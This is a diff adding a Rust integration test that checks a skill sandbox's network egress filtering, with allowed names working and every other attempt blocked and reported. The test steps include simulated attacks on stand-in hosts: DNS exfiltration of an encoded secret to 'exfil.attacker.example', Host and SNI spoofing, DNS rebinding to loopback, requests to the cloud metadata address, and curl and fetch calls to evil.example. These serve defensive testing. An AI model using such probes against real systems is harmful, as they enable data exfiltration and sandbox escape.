@@ -1,0 +1,236 @@
+//! Egress filtering through the real binary (DESIGN.md §4): a loopback HTTP server on
+//! the host stands in for the internet, a hosts-format override file stands in for
+//! public DNS, and clients that know nothing about proxies (Python urllib, raw
+//! sockets, curl, Node `fetch`) run inside the sandbox. Declared names work; every
+//! other attempt fails fast and is reported with its destination.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::Path;
+use std::time::Duration;
+
+use serde_json::json;
+
+use crate::escape::{payload_dir, Lab, Outcome};
+
+/// A plain HTTP server on the host's loopback that answers every request with
+/// `hello-from-host`, for a bounded number of connections.
+fn http_server() -> u16 {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for conn in l.incoming().take(64) {
+            let Ok(mut c) = conn else { continue };
+            let _ = c.set_read_timeout(Some(Duration::from_secs(3)));
+            let mut buf = [0u8; 4096];
+            let _ = c.read(&mut buf);
+            let _ = c.write_all(
+                b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 15\r\n\r\nhello-from-host",
+            );
+        }
+    });
+    port
+}
+
+fn skill(lab: &Lab, egress: &str, command: &str, args: &[String]) -> std::path::PathBuf {
+    let dir = lab.path("net-skill");
+    std::fs::create_dir_all(&dir).unwrap();
+    let args = serde_json::to_string(args).unwrap();
+    let manifest = format!(
+        "skill: {{name: net-skill, version: \"0.1.0\"}}\n\
+         permissions:\n  network:\n    egress:\n{egress}\n  filesystem:\n    read: [{payloads}]\n\
+         resources: {{max_runtime_seconds: 60}}\n\
+         entrypoint:\n  command: {command}\n  args: {args}\n",
+        payloads = payload_dir().display()
+    );
+    std::fs::write(dir.join("skillsandbox.yaml"), manifest).unwrap();
+    dir
+}
+
+fn run(lab: &Lab, dir: &Path, hosts: &str) -> Outcome {
+    let hosts_file = lab.path("hosts");
+    std::fs::write(&hosts_file, hosts).unwrap();
+    Outcome::from(
+        lab.cmd()
+            .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts_file)
+            .args(["run", "--json"])
+            .arg(dir)
+            .output()
+            .unwrap(),
+    )
+}
+
+fn step<'a>(o: &'a Outcome, name: &str) -> &'a str {
+    o.stdout
+        .lines()
+        .find_map(|l| l.strip_prefix(&format!("STEP {name} ")))
+        .unwrap_or_else(|| panic!("no step {name}:\n{}", o.dump()))
+}
+
+#[test]
+fn declared_names_work_and_everything_else_is_refused_and_reported() {
+    let Some(lab) = Lab::new() else { return };
+    let port = http_server();
+    let other = http_server(); // a host loopback service nobody declared
+    let egress = [
+        format!("      - domain: good.test\n        ports: [{port}]"),
+        format!("      - domain: rebind.test\n        ports: [{port}]"),
+        "      - domain: meta.test\n        ports: [80]".to_string(),
+        format!("      - cidr: 127.0.0.1/32\n        ports: [{port}]"),
+    ]
+    .join("\n");
+    let steps = json!([
+        ["http", "urlopen_declared", "good.test", port],
+        ["raw_http", "raw_declared", "good.test", port],
+        ["resolve", "resolve_declared", "good.test"],
+        ["resolve", "resolve_undeclared", "evil.example"],
+        [
+            "http",
+            "undeclared_port",
+            "good.test",
+            port.wrapping_add(1).max(1)
+        ],
+        [
+            "raw_http",
+            "host_header_mismatch",
+            "good.test",
+            port,
+            "evil.example"
+        ],
+        ["tls", "sni_mismatch", "good.test", port, "evil.example"],
+        ["raw_http", "ipv4_literal", "10.1.2.3", port],
+        ["raw_http", "ipv6_literal", "2001:db8::1", port],
+        ["http", "rebinding_to_loopback", "rebind.test", port],
+        ["http", "metadata_address", "meta.test", 80],
+        ["raw_http", "host_loopback_service", "127.0.0.1", other],
+        [
+            "raw_dns",
+            "dns_exfil_udp_v4",
+            "8.8.8.8",
+            "c2VjcmV0.exfil.attacker.example"
+        ],
+        [
+            "raw_dns",
+            "dns_exfil_udp_v6",
+            "2001:4860:4860::8888",
+            "c2VjcmV0.exfil.attacker.example"
+        ],
+        ["udp", "quic_udp_443", "1.1.1.1", 443],
+        ["raw", "raw_socket"]
+    ]);
+    let args = vec![
+        payload_dir().join("net.py").display().to_string(),
+        steps.to_string(),
+    ];
+    let dir = skill(&lab, &egress, "python3", &args);
+    let o = run(
+        &lab,
+        &dir,
+        "127.0.0.1 good.test\n127.0.0.2 rebind.test\n169.254.169.254 meta.test\n",
+    );
+    o.assert_done("NET_DONE");
+    let d = o.dump();
+
+    assert!(
+        step(&o, "urlopen_declared").starts_with("OK hello-from-host"),
+        "{d}"
+    );
+    assert!(
+        step(&o, "raw_declared").starts_with("OK HTTP/1.0_200"),
+        "{d}"
+    );
+    assert!(
+        step(&o, "resolve_declared").contains("198.18."),
+        "synthetic v4: {d}"
+    );
+    assert!(
+        step(&o, "resolve_declared").contains("fd5b:"),
+        "synthetic v6: {d}"
+    );
+    for blocked in [
+        "resolve_undeclared",
+        "undeclared_port",
+        "host_header_mismatch",
+        "sni_mismatch",
+        "ipv4_literal",
+        "ipv6_literal",
+        "rebinding_to_loopback",
+        "metadata_address",
+        "host_loopback_service",
+        "dns_exfil_udp_v4",
+        "dns_exfil_udp_v6",
+        "quic_udp_443",
+        "raw_socket",
+    ] {
+        assert!(
+            step(&o, blocked).starts_with("FAIL"),
+            "BREACH {blocked}: {d}"
+        );
+    }
+
+    let v = o.violations();
+    let has =
+        |kind: &str, needle: &str| v.iter().any(|x| x.starts_with(kind) && x.contains(needle));
+    assert!(has("dns_blocked", "evil.example"), "{d}");
+    // Names are recorded lower-cased (DNS is case-insensitive).
+    assert!(has("dns_blocked", "c2vjcmv0.exfil.attacker.example"), "{d}");
+    assert!(
+        has("domain_mismatch", "evil.example"),
+        "Host/SNI mismatch: {d}"
+    );
+    assert!(has("network_blocked", "10.1.2.3"), "{d}");
+    assert!(has("network_blocked", "2001:db8::1"), "{d}");
+    assert!(has("rebinding_blocked", "rebind.test"), "{d}");
+    assert!(has("rebinding_blocked", "meta.test"), "{d}");
+
+    // Every connection is in the trace with its decision; the allowed ones moved bytes.
+    let conns = o.json["network"]["connections"].as_array().unwrap();
+    assert!(conns.iter().any(|c| c["name"] == "good.test"
+        && c["decision"] == "allowed"
+        && c["real_addr"] == "127.0.0.1"
+        && c["bytes_in"].as_u64().unwrap_or(0) > 0));
+    assert!(conns
+        .iter()
+        .any(|c| c["dest"] == "10.1.2.3" && c["decision"] == "blocked"));
+}
+
+#[test]
+fn clients_that_ignore_proxies_work_for_declared_names_and_fail_fast_otherwise() {
+    let Some(lab) = Lab::new() else { return };
+    let port = http_server();
+    let egress = [
+        format!("      - domain: good.test\n        ports: [{port}]"),
+        format!("      - cidr: 127.0.0.1/32\n        ports: [{port}]"),
+    ]
+    .join("\n");
+    let node = Path::new("/usr/bin/node").exists();
+    let script = format!(
+        "curl -s --max-time 5 http://good.test:{port}/ && echo ' CURL_OK'; \
+         curl -s --max-time 5 http://evil.example:{port}/ || echo CURL_BLOCKED; {}",
+        if node {
+            format!(
+                "node -e 'fetch(\"http://good.test:{port}/\").then(r=>r.text()).then(t=>console.log(\"NODE_OK\",t))\
+                 .catch(e=>console.log(\"NODE_FAIL\",e.cause&&e.cause.code))'; \
+                 node -e 'fetch(\"http://evil.example:{port}/\").then(()=>console.log(\"NODE_BREACH\"))\
+                 .catch(e=>console.log(\"NODE_BLOCKED\",e.cause&&e.cause.code))'"
+            )
+        } else {
+            String::new()
+        }
+    );
+    let dir = skill(&lab, &egress, "sh", &["-c".to_string(), script]);
+    let started = std::time::Instant::now();
+    let o = run(&lab, &dir, "127.0.0.1 good.test\n");
+    let d = o.dump();
+    assert!(o.stdout.contains("hello-from-host CURL_OK"), "{d}");
+    assert!(o.stdout.contains("CURL_BLOCKED"), "{d}");
+    if node {
+        assert!(o.stdout.contains("NODE_OK hello-from-host"), "{d}");
+        assert!(o.stdout.contains("NODE_BLOCKED"), "{d}");
+        assert!(!o.stdout.contains("NODE_BREACH"), "{d}");
+    }
+    // Fail fast, not hang: well under the clients' own timeouts added up.
+    assert!(started.elapsed() < Duration::from_secs(20), "{d}");
+}
